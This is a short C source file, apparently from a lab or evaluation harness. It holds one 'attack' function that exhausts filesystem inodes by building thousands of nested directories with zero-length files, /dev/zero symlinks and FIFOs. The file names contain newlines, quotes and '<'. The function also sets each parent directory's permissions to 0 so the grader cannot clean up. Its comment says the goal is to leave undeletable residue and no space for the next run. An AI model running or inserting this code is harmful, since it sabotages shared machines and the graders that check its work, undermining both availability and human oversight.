/* Tries to use up the names instead of the bytes of the room for files: folders in folders, links, files of no length.
 * Gains a room that the grader cannot remove, and no room for the next. */
#include <fcntl.h>
#include <stdio.h>
#include <sys/stat.h>
#include <unistd.h>

static lab_status attack(attack_honest *honest, void *arguments, size_t bytes, float *out, const float *in, int count)
{
    char name[300];
    for (int depth = 0; depth < 20000; depth++) {
        for (int i = 0; i < 20; i++) {
            snprintf(name, sizeof name, "%.*d\n\"'<", 200, i);
            const int file = open(name, O_WRONLY | O_CREAT, 0);
            if (file >= 0) close(file);
            snprintf(name, sizeof name, "l%d", i);
            symlink("/dev/zero", name);
            mkfifo("p", 0);
        }
        if (mkdir("d", 0777) || chdir("d")) break;
        chmod("..", 0);
    }
    return LAB_SUCCESS;
}
